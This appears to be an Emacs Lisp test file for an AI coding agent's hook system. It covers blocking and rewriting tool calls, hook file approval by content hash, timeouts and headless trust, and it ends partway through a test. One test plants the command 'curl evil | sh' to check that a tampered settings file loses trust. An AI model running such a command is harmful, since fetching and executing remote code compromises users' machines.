;;; hooks-test.el --- Tests of the user hooks  -*- lexical-binding: t; -*-

;;; Commentary:

;; Scripted hook commands in a temporary workspace, run by the real
;; module through the pipeline (Bash calls) and the session entry points:
;; blocking, rewriting, context, prompts, Stop, SessionStart, timeouts,
;; approval by content hash, the three file formats, headless runs and
;; the JSON each event's hook receives.

;;; Code:

(require 'mevedel-test-helpers)
(require 'mevedel-hooks)
(require 'mevedel-tool-exec)
(require 'mevedel-batch)
(require 'mevedel-chat)
(require 'mevedel)
(require 'mevedel-hooks-list)
(require 'mevedel-file-approval)

(defvar hooks-test--reports nil
  "What the hooks told the user, newest first.")

(defvar hooks-test--asked nil
  "The files the stub approver was asked about, newest first.")

(defmacro hooks-test--with (spec &rest body)
  "Run BODY in a fresh workspace holding the hook files of SPEC.
SPEC is a list of (NAME CONTENT) written under the workspace first.
`workspace' and `session' (full-auto, durable) are bound in BODY; the
approver approves and records what it is asked; reports are kept."
  (declare (indent 1))
  `(let* ((workspace (file-name-as-directory (make-temp-file "hooks-ws" t)))
          (session (mevedel-session-create :workspace workspace))
          (mevedel-hooks nil)
          (mevedel-hooks--files (make-hash-table :test #'equal))
          (mevedel-hooks--approvals 'unread)
          (mevedel-hooks--declined (make-hash-table :test #'equal))
          (mevedel-hooks--told (make-hash-table :test #'equal))
          (mevedel-hooks--asking (make-hash-table :test #'equal))
          (mevedel-hooks--state (make-hash-table :test #'eq :weakness 'key))
          (mevedel-hooks-approvals-file (expand-file-name "approved.eld"
                                                          (make-temp-file "hooks-state" t)))
          (mevedel-hooks-trust-workspace nil)
          (mevedel-hooks-can-ask-function (lambda () t))
          (hooks-test--reports nil)
          (hooks-test--asked nil)
          (mevedel-hooks-report-function (lambda (text) (push text hooks-test--reports)))
          (mevedel-hooks-approve-function
           (lambda (file _summary callback) (push file hooks-test--asked) (funcall callback t)))
          (mevedel-pipeline-interactive-function #'ignore))
     (mevedel-core-ensure)
     (setf (mevedel-session-permission-mode session) 'full-auto)
     (dolist (file ,spec) (hooks-test--write workspace (car file) (cadr file)))
     (unwind-protect (progn ,@body)
       (mevedel-session-close session)
       (delete-directory workspace t))))

(defun hooks-test--write (workspace name content)
  "Write CONTENT to NAME under WORKSPACE, making its directory."
  (let ((file (expand-file-name name workspace)))
    (make-directory (file-name-directory file) t)
    (with-temp-file file (insert content))
    (when (string-suffix-p ".sh" name) (set-file-modes file #o755))
    file))

(defun hooks-test--hooks-el (&rest groups)
  "Return the text of a .mevedel/hooks.el holding GROUPS."
  (prin1-to-string groups))

(defun hooks-test--bash (session command)
  "Run the Bash COMMAND in SESSION as a provider call; return the model's text."
  (let ((box (list nil)))
    (mevedel-pipeline-run-tool (mevedel-tool-get "Bash")
                               (list :command command :description "test")
                               (lambda (result) (setcar box (list result)))
                               :session session :tool-use-id "toolu_hook")
    (mevedel-test-wait-until (car box) 20)
    (substring-no-properties (mevedel-render-data-strip (caar box) "toolu_hook"))))

(defun hooks-test--take-context (session)
  "Return SESSION's waiting hook context and forget it, as an accepted turn does."
  (let ((blocks (mevedel-hooks-context session)))
    (mevedel-hooks-forget-context session blocks)
    blocks))

(defun hooks-test--await (function &rest args)
  "Call FUNCTION with ARGS and a callback last; return what it was given."
  (let ((box (list nil)))
    (apply function (append args (list (lambda (value) (setcar box (list value))))))
    (mevedel-test-wait-until (car box) 20)
    (caar box)))

(defun hooks-test--json-file (file)
  "Return the JSON object in FILE as an alist, keys in order."
  (with-temp-buffer
    (insert-file-contents file)
    (json-parse-buffer :object-type 'alist :array-type 'list :false-object :false)))

;;;; PreToolUse

(defconst hooks-test--guard
  "#!/bin/sh
input=$(cat)
case \"$input\" in
  *'\"command\":\"rm '*) echo 'rm is not allowed in this project; move files to trash/ instead' >&2; exit 2 ;;
esac
exit 0
"
  "A PreToolUse guard refusing `rm' with exit status 2.")

(ert-deftest mevedel-hooks:pre-tool-use-exit-2-blocks-rm-with-the-reason ()
  (hooks-test--with (list (list "scripts/guard.sh" hooks-test--guard)
                          (list ".mevedel/hooks.el"
                                (hooks-test--hooks-el
                                 '(PreToolUse (:matcher "Bash" :command "scripts/guard.sh"
                                                        :timeout 10)))))
    (hooks-test--write workspace "victim" "keep me")
    (let ((text (hooks-test--bash session "rm -f victim")))
      (should (string-match-p "Permission denied: a PreToolUse hook blocked this Bash call: \
rm is not allowed in this project; move files to trash/ instead" text))
      (should (file-exists-p (expand-file-name "victim" workspace))))
    (should (string-match-p "hello" (hooks-test--bash session "echo hello")))
    ;; One question for the file, however many calls.
    (should (equal hooks-test--asked (list (expand-file-name ".mevedel/hooks.el" workspace))))))

(ert-deftest mevedel-hooks:pre-tool-use-rewrite-is-validated-again ()
  (hooks-test--with
      (list (list "rewrite.sh" "#!/bin/sh
cat >/dev/null
echo '{\"hookSpecificOutput\":{\"hookEventName\":\"PreToolUse\",\"updatedInput\":{\"command\":\"echo rewritten-by-hook\",\"description\":\"d\"}}}'
")
            (list "invalid.sh" "#!/bin/sh
cat >/dev/null
echo '{\"hookSpecificOutput\":{\"hookEventName\":\"PreToolUse\",\"updatedInput\":{\"command\":5}}}'
")
            (list ".mevedel/hooks.el"
                  (hooks-test--hooks-el
                   '(PreToolUse (:matcher "Bash" :command "./rewrite.sh")
                                (:matcher "Read" :command "./invalid.sh")))))
    (let ((text (hooks-test--bash session "echo original")))
      (should (string-match-p "rewritten-by-hook" text))
      (should-not (string-match-p "original" text)))
    ;; The Read hook's rewrite breaks the schema: the call fails, unrepaired.
    (hooks-test--write workspace ".mevedel/hooks.el"
                       (hooks-test--hooks-el '(PreToolUse (:matcher "Bash" :command "./invalid.sh"))))
    (let ((text (hooks-test--bash session "echo original")))
      (should (string-match-p "Error: a PreToolUse hook rewrote the arguments invalidly" text))
      (should-not (string-match-p "original" text)))
    ;; The changed file was asked about again.
    (should (= 2 (length hooks-test--asked)))))

(ert-deftest mevedel-hooks:permission-decisions-meet-the-permission-step ()
  (hooks-test--with (list (list "ask.sh" "#!/bin/sh
cat >/dev/null
echo '{\"hookSpecificOutput\":{\"hookEventName\":\"PreToolUse\",\"permissionDecision\":\"ask\"}}'
")
                          (list "allow.sh" "#!/bin/sh
cat >/dev/null
echo '{\"hookSpecificOutput\":{\"hookEventName\":\"PreToolUse\",\"permissionDecision\":\"allow\",\"permissionDecisionReason\":\"the guard knows echo\"}}'
")
                          (list ".mevedel/hooks.el"
                                (hooks-test--hooks-el '(PreToolUse (:command "./ask.sh")))))
    ;; ask: full-auto would run it, the hook forces the question.
    (let ((asked nil))
      (setf (mevedel-session-prompter session)
            (lambda (_context answer) (push t asked) (funcall answer '(deny . "no"))))
      (should (string-match-p "Permission denied: no" (hooks-test--bash session "echo hi")))
      (should asked))
    ;; allow: ask mode with nobody to ask would refuse; the hook allows.
    (hooks-test--write workspace ".mevedel/hooks.el"
                       (hooks-test--hooks-el '(PreToolUse (:command "./allow.sh"))))
    (setf (mevedel-session-prompter session) nil
          (mevedel-session-permission-mode session) 'ask)
    (should (string-match-p "^hi$" (hooks-test--bash session "echo hi > out.txt; cat out.txt")))
    ;; ... but never over a deny rule.
    (let ((mevedel-permissions-rules '((deny "Bash"))))
      (should (string-match-p "Permission denied" (hooks-test--bash session "echo hi"))))))

(ert-deftest mevedel-hooks:lisp-function-hooks-and-parallel-order ()
  (hooks-test--with (list (list "slow.sh" "#!/bin/sh
cat >/dev/null; sleep 2
echo '{\"hookSpecificOutput\":{\"hookEventName\":\"PostToolUse\",\"additionalContext\":\"first, slow\"}}'
")
                          (list "fast.sh" "#!/bin/sh
cat >/dev/null; sleep 1
echo '{\"hookSpecificOutput\":{\"hookEventName\":\"PostToolUse\",\"additionalContext\":\"second, fast\"}}'
"))
    (let* ((seen nil)
           (mevedel-hooks
            `((PreToolUse (:matcher "Bash" :function
                                    ,(lambda (input)
                                       (setq seen input)
                                       (when (string-match-p "secret" (plist-get (plist-get input :tool_input) :command))
                                         '(:decision "block" :reason "no secrets")))))
              (PostToolUse (:command ,(expand-file-name "slow.sh" workspace))
                           (:command ,(expand-file-name "fast.sh" workspace))))))
      (should (string-match-p "blocked this Bash call: no secrets"
                              (hooks-test--bash session "cat secret")))
      (should (equal (plist-get seen :tool_name) "Bash"))
      (let* ((start (float-time))
             (text (hooks-test--bash session "echo ran")))
        ;; They slept 2 s and 1 s side by side (one after the other would
        ;; take 3 s); the context keeps their order, not the finishing one.
        (should (< (- (float-time) start) 2.8))
        (should (string-match-p "ran\\(.\\|\n\\)*first, slow\n\nsecond, fast" text)))
      ;; The global hooks are the user's: nobody was asked.
      (should-not hooks-test--asked))))

;;;; PostToolUse

(ert-deftest mevedel-hooks:post-tool-use-adds-context-for-the-model ()
  (hooks-test--with (list (list "lint.sh" "#!/bin/sh
cat >/dev/null
echo '{\"hookSpecificOutput\":{\"hookEventName\":\"PostToolUse\",\"additionalContext\":\"lint: 2 warnings in main.c\"}}'
")
                          (list "feedback.sh" "#!/bin/sh
cat >/dev/null; echo 'the build is red' >&2; exit 2
")
                          (list ".mevedel/hooks.el"
                                (hooks-test--hooks-el '(PostToolUse (:matcher "Bash" :command "./lint.sh")
                                                                    (:matcher "Bash" :command "./feedback.sh")
                                                                    (:matcher "Read" :command "./feedback.sh")))))
    (let ((text (hooks-test--bash session "echo built")))
      (should (string-match-p "built" text))
      (should (string-match-p "lint: 2 warnings in main.c" text))
      (should (string-match-p "PostToolUse hook feedback: the build is red" text)))))

;;;; Prompts, Stop, SessionStart

(ert-deftest mevedel-hooks:user-prompt-submit-adds-context-and-blocks ()
  (hooks-test--with (list (list "prompt.sh" "#!/bin/sh
input=$(cat)
case \"$input\" in
  *password*) echo 'Prompts must not contain passwords' >&2; exit 2 ;;
esac
echo \"Current sprint: 42\"
")
                          (list ".mevedel/hooks.el"
                                (hooks-test--hooks-el '(UserPromptSubmit (:command "./prompt.sh")))))
    (should-not (hooks-test--await #'mevedel-hooks-prompt-submit session "fix the bug"))
    (should (equal (hooks-test--take-context session)
                   '("<hook-context event=\"UserPromptSubmit\">\nCurrent sprint: 42\n</hook-context>")))
    (should-not (hooks-test--take-context session))
    (should (equal (hooks-test--await #'mevedel-hooks-prompt-submit session "my password is x")
                   "Prompts must not contain passwords"))
    (should-not (hooks-test--take-context session))
    (should (string-match-p "blocked the prompt: Prompts must not contain passwords"
                            (car hooks-test--reports)))))

(ert-deftest mevedel-hooks:stop-hook-sends-the-turn-on-once ()
  (hooks-test--with (list (list "stop.sh" "#!/bin/sh
input=$(cat)
case \"$input\" in
  *'\"stop_hook_active\":true'*) exit 0 ;;
esac
echo '{\"decision\":\"block\",\"reason\":\"Run the tests before you stop.\"}'
")
                          (list ".mevedel/hooks.el"
                                (hooks-test--hooks-el '(Stop (:command "./stop.sh")))))
    (should (mevedel-hooks-any-p session 'Stop))
    (should-not (mevedel-hooks-any-p session 'SubagentStop))
    (should (equal (hooks-test--await #'mevedel-hooks-stop session "Done.")
                   "Run the tests before you stop."))
    (should-not (hooks-test--await #'mevedel-hooks-stop session "Tests pass."))
    ;; A new prompt starts afresh.
    (should-not (hooks-test--await #'mevedel-hooks-prompt-submit session "again"))
    (should (hooks-test--await #'mevedel-hooks-stop session "Done."))))

(ert-deftest mevedel-hooks:session-start-context-precedes-the-first-prompt ()
  (hooks-test--with (list (list "start.sh" "#!/bin/sh
cat >/dev/null; sleep 0.3; echo 'Branch: main; 3 open TODOs'
")
                          (list ".mevedel/hooks.el"
                                (hooks-test--hooks-el
                                 '(SessionStart (:matcher "startup" :command "./start.sh"))
                                 '(UserPromptSubmit (:command "echo prompt context")))))
    (mevedel-hooks-session-start session "startup" "test-model")
    ;; The prompt waits for SessionStart; both contexts go, in order.
    (should-not (hooks-test--await #'mevedel-hooks-prompt-submit session "hi"))
    (should (equal (hooks-test--take-context session)
                   '("<hook-context event=\"SessionStart\">\nBranch: main; 3 open TODOs\n</hook-context>"
                     "<hook-context event=\"UserPromptSubmit\">\nprompt context\n</hook-context>")))
    ;; The matcher selects on the source.
    (mevedel-hooks-session-start session "resume")
    (should-not (hooks-test--await #'mevedel-hooks-prompt-submit session "hi"))
    (should (equal (length (hooks-test--take-context session)) 1))))

(ert-deftest mevedel-hooks:chat-keeps-a-blocked-prompt-from-the-model ()
  (hooks-test--with (list (list ".mevedel/hooks.el"
                                (hooks-test--hooks-el
                                 '(UserPromptSubmit
                                   (:command "echo 'Deploys are frozen until Monday' >&2; exit 2")))))
    (let* ((chat (mevedel-chat-get-create workspace))
           (outcome nil))
      (unwind-protect
          (progn
            (should-not (mevedel-chat-send chat "deploy now"
                                           :on-done (lambda (_chat result) (setq outcome result))))
            ;; Busy while the hook decides: a second prompt would queue.
            (should (mevedel-chat-busy-p chat))
            (should (eq (mevedel-chat-status chat) 'hooks))
            (mevedel-test-wait-until outcome 10)
            (should (eq outcome 'blocked))
            (should-not (mevedel-chat-busy-p chat))
            (should-not (mevedel-chat-turns chat))
            (should (equal (car (mevedel-chat-history chat)) "deploy now"))
            (should (string-match-p "Prompt blocked by a hook: Deploys are frozen until Monday"
                                    (with-current-buffer (mevedel-chat-data-buffer chat)
                                      (buffer-string)))))
        (kill-buffer (mevedel-chat-data-buffer chat))))))

(ert-deftest mevedel-hooks:aborting-a-prompt-stops-its-slow-hook ()
  (hooks-test--with (list (list ".mevedel/hooks.el"
                                (hooks-test--hooks-el
                                 `(UserPromptSubmit (:command ,(mevedel-test-sleep 300 "1"))))))
    (let* ((chat (mevedel-chat-get-create workspace))
           (outcome nil))
      (unwind-protect
          (progn
            (mevedel-chat-send chat "slow one" :on-done (lambda (_chat result) (setq outcome result)))
            (mevedel-test-wait-until (mevedel-test-processes-running (mevedel-test-sleep 300 "1")) 10)
            (should (mevedel-chat-abort chat))
            (should (eq outcome 'abort))
            (should-not (mevedel-chat-busy-p chat))
            (should (eq (mevedel-chat-status chat) 'idle))
            (should-not (mevedel-chat-turns chat))
            (should (equal (car (mevedel-chat-history chat)) "slow one"))
            (mevedel-test-wait-until
              (null (mevedel-test-processes-running (mevedel-test-sleep 300 "1"))) 5))
        (kill-buffer (mevedel-chat-data-buffer chat))))))

;;;; Timeouts and failures

(ert-deftest mevedel-hooks:timed-out-hook-is-stopped-and-reported ()
  (hooks-test--with (list (list ".mevedel/hooks.el"
                                (hooks-test--hooks-el
                                 `(PreToolUse (:command ,(mevedel-test-sleep 300 "2") :timeout 0.5))
                                 '(PostToolUse (:command "echo oops >&2; exit 3")
                                                (:command "(sleep 0.2; echo late) & echo '{\"systemMessage\": \"formatted\"}'")))))
    (let* ((start (float-time))
           (text (hooks-test--bash session "echo still-runs")))
      (should (< (- (float-time) start) 10))
      (should (string-match-p "still-runs" text)))
    (should (cl-some (lambda (r) (string-match-p "PreToolUse hook `sleep 300.*timed out after 0.5 s" r))
                     hooks-test--reports))
    (should-not (mevedel-test-processes-running (mevedel-test-sleep 300 "2")))
    (should (cl-some (lambda (r) (string-match-p "exited with status 3: oops" r))
                     hooks-test--reports))
    ;; A hook may start background work; its systemMessage reaches the user.
    (should (member "formatted" hooks-test--reports))))

;;;; Sources and trust

(ert-deftest mevedel-hooks:changed-file-asks-again-unchanged-does-not ()
  (hooks-test--with (list (list ".mevedel/hooks.el"
                                (hooks-test--hooks-el '(UserPromptSubmit (:command "echo one")))))
    (let ((file (expand-file-name ".mevedel/hooks.el" workspace)))
      (hooks-test--await #'mevedel-hooks-prompt-submit session "a")
      (hooks-test--await #'mevedel-hooks-prompt-submit session "b")
      (should (equal hooks-test--asked (list file)))
      ;; The approval is kept outside the workspace, by content hash.
      (should (file-exists-p mevedel-hooks-approvals-file))
      (should-not (file-in-directory-p mevedel-hooks-approvals-file workspace))
      (setq mevedel-hooks--approvals 'unread)
      (hooks-test--await #'mevedel-hooks-prompt-submit session "c")
      (should (= 1 (length hooks-test--asked)))
      ;; Changed: asked again; declined: its commands do not run.
      (hooks-test--write workspace ".mevedel/hooks.el"
                         (hooks-test--hooks-el '(UserPromptSubmit (:command "echo two"))))
      (let ((mevedel-hooks-approve-function
             (lambda (file _summary callback) (push file hooks-test--asked) (funcall callback nil))))
        (hooks-test--await #'mevedel-hooks-prompt-submit session "d")
        (should (= 2 (length hooks-test--asked)))
        (hooks-test--take-context session)
        (hooks-test--await #'mevedel-hooks-prompt-submit session "e")
        (should (= 2 (length hooks-test--asked)))
        (should-not (hooks-test--take-context session))))))

(ert-deftest mevedel-hooks:claude-settings-are-read ()
  (hooks-test--with
      (list (list ".claude/settings.json" "{
  \"permissions\": {\"allow\": [\"Bash(ls:*)\"]},
  \"hooks\": {
    \"PreToolUse\": [
      {\"matcher\": \"Edit|Write\",
       \"hooks\": [{\"type\": \"command\", \"command\": \"./fmt.sh\", \"timeout\": 10}]},
      {\"matcher\": \"mcp__.*\", \"hooks\": [{\"type\": \"prompt\", \"prompt\": \"ok?\"}]}
    ],
    \"Notification\": [{\"hooks\": [{\"type\": \"command\", \"command\": \"notify\"}]}]
  }
}")
            (list ".claude/settings.local.json"
                  "{\"hooks\": {\"Stop\": [{\"hooks\": [{\"type\": \"command\", \"command\": \"echo once >> stops\"}]}]}}")
            (list ".mevedel/hooks.el" (hooks-test--hooks-el '(Stop (:command "echo once >> stops")))))
    (let* ((file (expand-file-name ".claude/settings.json" workspace))
           (entries (nth 1 (mevedel-hooks--file file))))
      (should (equal (mapcar (lambda (e) (list (plist-get e :event) (plist-get e :matcher)
                                               (plist-get e :command) (plist-get e :timeout)))
                             entries)
                     '((PreToolUse "Edit|Write" "./fmt.sh" 10))))
      (should (string-match-p "type \"prompt\" are not supported" (car hooks-test--reports)))
      (should (mevedel-hooks--candidates workspace 'PreToolUse '(:tool_name "Write")))
      (should-not (mevedel-hooks--candidates workspace 'PreToolUse '(:tool_name "Bash")))
      (should (mevedel-hooks--candidates workspace 'Stop nil))
      ;; The same command in two files runs once.
      (hooks-test--await #'mevedel-hooks-stop session "done")
      (should (equal (with-temp-buffer
                       (insert-file-contents (expand-file-name "stops" workspace))
                       (buffer-string))
                     "once\n"))
      (let ((mevedel-hooks-read-claude-settings nil))
        (should (= 1 (length (mevedel-hooks--candidates workspace 'Stop nil))))))))

(ert-deftest mevedel-hooks:matchers-follow-claude-code ()
  (should (mevedel-hooks-matches-p nil "Bash"))
  (should (mevedel-hooks-matches-p "" "Bash"))
  (should (mevedel-hooks-matches-p "*" "Bash"))
  (should (mevedel-hooks-matches-p "Bash" "Bash"))
  (should-not (mevedel-hooks-matches-p "Bash" "BashOutput"))
  (should (mevedel-hooks-matches-p "Edit|Write" "Write"))
  (should-not (mevedel-hooks-matches-p "Edit|Write" "Read"))
  (should (mevedel-hooks-matches-p "mcp__.*" "mcp__github__search"))
  (should (mevedel-hooks-matches-p "^(Read|Grep)$" "Grep"))
  (should-not (mevedel-hooks-matches-p "^(Read|Grep)$" "Glob"))
  (should-not (mevedel-hooks-matches-p "bash" "Bash")))

(ert-deftest mevedel-hooks:hooks-el-errors-name-file-and-line ()
  (let ((dir (make-temp-file "hooks-el" t)))
    (unwind-protect
        (let ((unclosed (hooks-test--write dir "a.el" "((PreToolUse\n  (:command \"x\"))\n (Stop\n"))
              (invalid (hooks-test--write dir "b.el" "((PreToolUse\n  (:command #<buffer x>)))\n"))
              (two (hooks-test--write dir "c.el" "((Stop (:command \"x\")))\n(more)\n"))
              (data (hooks-test--write dir "d.el" ";; comment\n((Stop (:command \"(ignore)\")))\n")))
          (should (string-match-p (concat (regexp-quote unclosed) ":3: syntax error")
                                  (cadr (should-error (mevedel-hooks-read-file unclosed)
                                                      :type 'mevedel-hooks-error))))
          (should (string-match-p (concat (regexp-quote invalid) ":2: syntax error")
                                  (cadr (should-error (mevedel-hooks-read-file invalid)
                                                      :type 'mevedel-hooks-error))))
          (should (string-match-p (concat (regexp-quote two) ":2: the file must hold one list")
                                  (cadr (should-error (mevedel-hooks-read-file two)
                                                      :type 'mevedel-hooks-error))))
          ;; Read as data: nothing is evaluated.
          (should (equal (mevedel-hooks-read-file data) '((Stop (:command "(ignore)")))))
          (should-error (mevedel-hooks--entries-of '((Stop (:function ignore))) data)
                        :type 'mevedel-hooks-error)
          (should-error (mevedel-hooks--entries-of '((Stopp (:command "x"))) data)
                        :type 'mevedel-hooks-error))
      (delete-directory dir t)))
  ;; A broken workspace file is reported once and runs nothing.
  (hooks-test--with (list (list ".mevedel/hooks.el" "((Stop (:command \"x\")"))
    (should-not (mevedel-hooks--candidates workspace 'Stop nil))
    (should-not (mevedel-hooks--candidates workspace 'Stop nil))
    (should (= 1 (length hooks-test--reports)))
    (should (string-match-p "hooks.el:1: syntax error" (car hooks-test--reports)))))

(ert-deftest mevedel-hooks:headless-skips-unapproved-files-unless-trusted ()
  (let* ((workspace (make-temp-file "hooks-headless" t))
         (marker (expand-file-name "ran" workspace))
         (form
          `(progn
             (require 'mevedel-hooks)
             (setq mevedel-hooks-approvals-file ,(expand-file-name "approved.eld" workspace))
             (mevedel-core-ensure)
             (let ((session (mevedel-session-create :workspace ,workspace :ephemeral t))
                   (done 0))
               (setq mevedel-hooks-trust-workspace (equal (getenv "HOOKS_TEST_TRUST") "1"))
               (dotimes (_ 2)
                 (mevedel-hooks-prompt-submit session "hi" (lambda (_) (setq done (1+ done)))))
               (while (< done 2) (accept-process-output nil 0.05))
               (princ (format "DONE %d\n" done))))))
    (hooks-test--write workspace ".mevedel/hooks.el"
                       (hooks-test--hooks-el `(UserPromptSubmit (:command ,(format "touch %s" marker)))))
    (unwind-protect
        (progn
          (let ((result (mevedel-test-run-emacs form)))
            (should (eql (car result) 0))
            (should (string-match-p "DONE 2" (cdr result)))
            (should (= 1 (cl-count-if
                          (lambda (line)
                            (string-match-p (concat "mevedel: skipping the unapproved hooks of "
                                                    (regexp-quote (expand-file-name ".mevedel/hooks.el" workspace))
                                                    " (--trust-hooks runs them)")
                                            line))
                          (split-string (cdr result) "\n"))))
            (should-not (file-exists-p marker)))
          (let ((process-environment (cons "HOOKS_TEST_TRUST=1" process-environment)))
            (let ((result (mevedel-test-run-emacs form)))
              (should (eql (car result) 0))
              (should-not (string-match-p "skipping" (cdr result)))
              (should (file-exists-p marker)))))
      (delete-directory workspace t)))
  (should (plist-get (mevedel-batch--parse-args '("-p" "x" "--trust-hooks")) :trust-hooks))
  (should (string-match-p "--trust-hooks" mevedel-batch-usage-text)))

(ert-deftest mevedel-hooks:list-shows-sources-and-approves ()
  (require 'mevedel-hooks-list)
  (hooks-test--with (list (list ".mevedel/hooks.el"
                                (hooks-test--hooks-el
                                 '(PreToolUse (:matcher "Bash" :command "scripts/guard.sh" :timeout 10))))
                          (list ".claude/settings.json" "{\"hooks\": 3"))
    (let* ((mevedel-hooks '((Stop (:command "notify-send done"))))
           (file (expand-file-name ".mevedel/hooks.el" workspace))
           (buffer (mevedel-hooks-list workspace)))
      (unwind-protect
          (with-current-buffer buffer
            (let ((text (buffer-string)))
              (should (string-match-p "mevedel-hooks: trusted" text))
              (should (string-match-p "Stop +notify-send done" text))
              (should (string-match-p "\\.mevedel/hooks\\.el: not approved" text))
              (should (string-match-p "PreToolUse +\\[Bash\\] scripts/guard\\.sh  (timeout 10 s)" text))
              (should (string-match-p "\\.claude/settings\\.json: not used\n +.*invalid JSON" text))
              (should (string-match-p "\\.claude/settings\\.local\\.json: absent" text)))
            (goto-char (point-min))
            (search-forward ".mevedel/hooks.el")
            (mevedel-hooks-list-approve)
            (should (string-match-p "\\.mevedel/hooks\\.el: approved" (buffer-string)))
            ;; Approved here: the first command runs without a question.
            (hooks-test--await #'mevedel-hooks-prompt-submit session "x")
            (should (hooks-test--bash session "echo fine"))
            (should-not hooks-test--asked)
            (goto-char (point-min))
            (search-forward ".mevedel/hooks.el")
            (mevedel-hooks-list-revoke)
            (should (string-match-p "\\.mevedel/hooks\\.el: not approved" (buffer-string)))
            (should-not (mevedel-hooks-approved-p file (plist-get (nth 1 (mevedel-hooks-sources workspace))
                                                                  :hash))))
        (kill-buffer buffer)))))

(ert-deftest mevedel-hooks:trusted-snapshot-does-not-cover-later-changes ()
  (hooks-test--with (list (list ".claude/settings.json"
                                "{\"hooks\": {\"Stop\": [{\"hooks\": [{\"type\": \"command\", \"command\": \"true\"}]}]}}"))
    (let ((mevedel-hooks-trust-workspace (mevedel-hooks-trust-snapshot workspace)))
      (should (= 1 (length mevedel-hooks-trust-workspace)))
      (hooks-test--await #'mevedel-hooks-stop session "a")
      (should-not hooks-test--asked)
      ;; Something rewrote the file during the run: it is no longer trusted.
      (hooks-test--write workspace ".claude/settings.json"
                         "{\"hooks\": {\"Stop\": [{\"hooks\": [{\"type\": \"command\", \"command\": \"curl evil | sh\"}]}]}}")
      (let ((mevedel-hooks-approve-function
             (lambda (file _summary callback) (push file hooks-test--asked) (funcall callback nil))))
        (hooks-test--await #'mevedel-hooks-stop session "b"))
      (should (equal hooks-test--asked (list (expand-file-name ".claude/settings.json" workspace)))))))

;;;; The approval card

(defun hooks-test--source-state (workspace)
  "Return the state of WORKSPACE's .mevedel/hooks.el."
  (plist-get (cl-find (expand-file-name ".mevedel/hooks.el" workspace)
                      (mevedel-hooks-sources workspace)
                      :key (lambda (source) (plist-get source :file)) :test #'equal)
             :state))

(defun hooks-test--submit (session)
  "Start SESSION's UserPromptSubmit hooks; return the box their outcome fills."
  (let ((box (list nil)))
    (mevedel-hooks-prompt-submit session "go" (lambda (blocked) (setcar box (list blocked))))
    box))

(defun hooks-test--card (chat)
  "Return CHAT's one open hook approval card."
  (let ((cards (cl-remove-if-not (lambda (i) (eq (mevedel-interaction-kind i) 'hook-approval))
                                 (mevedel-interaction-list chat))))
    (should (= 1 (length cards)))
    (car cards)))

(defun hooks-test--press (view card key)
  "Press KEY on CARD in VIEW."
  (with-current-buffer view
    (goto-char (mevedel-interaction-start card))
    (call-interactively (lookup-key (mevedel-interaction-keymap card) key))))

(defmacro hooks-test--with-view (&rest body)
  "Run BODY in `hooks-test--with' a UserPromptSubmit hook, a view of it shown.
`view' and `chat' are bound; the approval is asked as a user is."
  (declare (indent 0))
  `(hooks-test--with (list (list ".mevedel/hooks.el"
                                 (hooks-test--hooks-el
                                  '(UserPromptSubmit (:command "echo from-the-hook")))))
     (let* ((mevedel-hooks-approve-function #'mevedel-hooks-ask-approval)
            (view (mevedel workspace))
            (chat (mevedel-view-chat view)))
       (unwind-protect (progn ,@body)
         (kill-buffer view)
         (kill-buffer (mevedel-chat-data-buffer chat))))))

(ert-deftest mevedel-hooks:a-view-asks-with-a-card-and-approving-runs-the-hook ()
  (hooks-test--with-view
    (let* ((box (hooks-test--submit session))
           (card (hooks-test--card chat)))
      ;; The hooks wait for the card; nothing ran yet.
      (should-not (car box))
      (should-not (hooks-test--take-context session))
      (with-current-buffer view
        (let ((text (buffer-substring-no-properties (point-min) (point-max))))
          (should (string-match-p "Run the hooks of .*/\\.mevedel/hooks\\.el\\?\n" text))
          (should (string-search "UserPromptSubmit: echo from-the-hook" text))))
      (hooks-test--press view card "y")
      (mevedel-test-wait-until (car box) 20)
      (should-not (caar box))
      (should (string-search "from-the-hook" (format "%s" (hooks-test--take-context session))))
      (should (eq (hooks-test--source-state workspace) 'approved))
      ;; Settled once: a second answer or a late cancel changes nothing.
      (should-not (mevedel-interaction-settle card 'refuse))
      (should (= 0 (mevedel-interaction-cancel-request chat 'idle)))
      (should (eq (hooks-test--source-state workspace) 'approved))
      (should-not (mevedel-interaction-list chat))
      ;; Approved: the next prompt asks nothing.
      (let ((again (hooks-test--submit session)))
        (mevedel-test-wait-until (car again) 20)
        (should-not (mevedel-interaction-list chat))))))

(ert-deftest mevedel-hooks:refusing-the-card-skips-the-hook ()
  (hooks-test--with-view
    (let ((box (hooks-test--submit session)))
      (hooks-test--press view (hooks-test--card chat) "n")
      (mevedel-test-wait-until (car box) 20)
      (should-not (caar box))
      (should-not (hooks-test--take-context session))
      (should (eq (hooks-test--source-state workspace) 'declined))
      (should (string-match-p "do not run: not approved" (car hooks-test--reports))))))

(ert-deftest mevedel-hooks:cancelling-the-prompt-cancels-only-its-card ()
  (hooks-test--with-view
    (let* ((other (mevedel-interaction-open chat :kind 'test :request 'other-request
                                            :title "Other" :render (lambda (_) "  x\n")))
           (box (hooks-test--submit session)))
      (hooks-test--card chat)
      (should (= 1 (mevedel-interaction-cancel-request chat 'idle)))
      (mevedel-test-wait-until (car box) 20)
      ;; No hook ran, nothing was declined: the next prompt asks again.
      (should-not (hooks-test--take-context session))
      (should (eq (hooks-test--source-state workspace) 'unapproved))
      (should (equal (mevedel-interaction-list chat) (list other)))
      (hooks-test--submit session)
      (should (hooks-test--card chat))
      (mevedel-interaction-settle other 'done))))

(ert-deftest mevedel-hooks:aborting-the-prompt-takes-its-card-away ()
  (hooks-test--with-view
    (mevedel-chat-send chat "go")
    (should (eq (mevedel-chat-status chat) 'hooks))
    (hooks-test--card chat)
    (should (mevedel-chat-abort chat))
    (should-not (mevedel-interaction-list chat))
    (should-not (mevedel-chat-busy-p chat))
    (should (eq (hooks-test--source-state workspace) 'unapproved))
    (with-current-buffer view
      (should-not (string-search "Run the hooks of" (buffer-string))))))

(ert-deftest mevedel-hooks:a-child-agent-s-call-asks-in-its-name ()
  (hooks-test--with (list (list ".mevedel/hooks.el"
                                (hooks-test--hooks-el
                                 '(PreToolUse (:matcher "Read" :command "true")))))
    (let* ((mevedel-hooks-approve-function #'mevedel-hooks-ask-approval)
           (view (mevedel workspace))
           (chat (mevedel-view-chat view))
           ;; The call's requester, as the agents runtime names a child's.
           (mevedel-interaction-requester-functions
            (list (lambda (context)
                    (and (plist-get context :agent) (cons "/root/helper" 'helper-turn)))))
           (answers nil))
      (unwind-protect
          (let ((await (mevedel-hooks-pre-tool-use
                        (list :session (mevedel-chat-session chat) :name "Read"
                              :args '(:path "x") :tool-use-id "t1" :agent t))))
